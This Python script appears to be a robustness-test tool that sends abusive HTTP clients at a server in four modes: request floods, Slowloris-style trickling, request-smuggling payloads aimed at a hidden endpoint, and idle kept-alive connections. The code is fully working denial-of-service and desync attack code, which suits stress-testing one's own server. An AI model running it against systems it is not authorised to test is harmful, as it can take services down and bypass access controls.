"""Clients that mean ill, from one address.

``abuser.py ADDRESS PORT HOST KIND COUNT``: so many of them, without an end. ``flood``: one request after the other,
also after refusals, up to fifty a second. ``slow``: half a header or a body that trickles, again and again.
``malformed``: what two programs may read differently. ``idle``: kept-alive connections that do nothing.
"""

from __future__ import annotations

import asyncio
import contextlib
import itertools
import resource
import sys
from collections.abc import Awaitable, Callable

HIDDEN = "GET /api/v1/hidden HTTP/1.1\r\nHost: {host}\r\n\r\n"
MALFORMED = (
    "POST /a HTTP/1.1\r\nHost: {host}\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + HIDDEN,
    "POST /a HTTP/1.1\r\nHost: {host}\r\nContent-Length: 4\r\nContent-Length: 14\r\n\r\nabcd" + HIDDEN,
    "POST /a HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\n" + HIDDEN,
    "GET /a HTTP/1.1\r\nHost: {host}\r\nHost: evil.example\r\n\r\n" + HIDDEN,
    "GET /a HTTP/1.1\r\nHost: {host}\r\nX-A: " + "a" * 20_000 + "\r\n\r\n" + HIDDEN,
)
WHOLE = "GET /api/v1/sites HTTP/1.1\r\nHost: {host}\r\n\r\n"
NOBODY = "GET / HTTP/1.1\r\nHost: stranger.example\r\n\r\n"
TRICKLE = "POST /api/v1/sites HTTP/1.1\r\nHost: {host}\r\nContent-Length: 200000\r\n\r\nx"

Streams = tuple[asyncio.StreamReader, asyncio.StreamWriter]


async def answer(reader: asyncio.StreamReader) -> None:
    """Reads one answer with a Content-Length."""
    head = (await reader.readuntil(b"\r\n\r\n")).decode("latin-1").lower()
    length = head.partition("content-length:")[2].split("\r\n")[0].strip()
    await reader.readexactly(int(length or 0))


async def flood(streams: Streams, host: str, number: int) -> None:
    while True:
        streams[1].write(WHOLE.format(host=host).encode())
        await answer(streams[0])
        await asyncio.sleep(0.02)  # the cores are the server's as well


async def slow(streams: Streams, host: str, number: int) -> None:
    text = TRICKLE if number % 2 else WHOLE[:20]
    streams[1].write(text.format(host=host).encode())
    while True:
        await asyncio.sleep(2)
        streams[1].write(b"x")
        await streams[1].drain()


async def malformed(streams: Streams, host: str, number: int) -> None:
    streams[1].write(MALFORMED[number % len(MALFORMED)].format(host=host).encode())
    await streams[0].read()
    await asyncio.sleep(0.1)


async def idle(streams: Streams, host: str, number: int) -> None:
    streams[1].write(NOBODY.encode())
    while await streams[0].read(4096):
        pass
    await asyncio.sleep(1)


KINDS: dict[str, Callable[[Streams, str, int], Awaitable[None]]] = {
    "flood": flood,
    "slow": slow,
    "malformed": malformed,
    "idle": idle,
}


async def one(address: str, port: int, host: str, kind: str, numbers: itertools.count[int]) -> None:
    while True:
        with contextlib.suppress(OSError, asyncio.IncompleteReadError):
            streams = await asyncio.open_connection(address, port)
            try:
                await KINDS[kind](streams, host, next(numbers))
            finally:
                streams[1].close()
        await asyncio.sleep(0.02)


async def main(address: str, port: int, host: str, kind: str, count: int) -> None:
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    numbers = itertools.count()
    async with asyncio.TaskGroup() as group:
        for number in range(count):
            group.create_task(one(address, port, host, kind, numbers))
            if number % 50 == 49:
                await asyncio.sleep(0.02)


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4], int(sys.argv[5])))
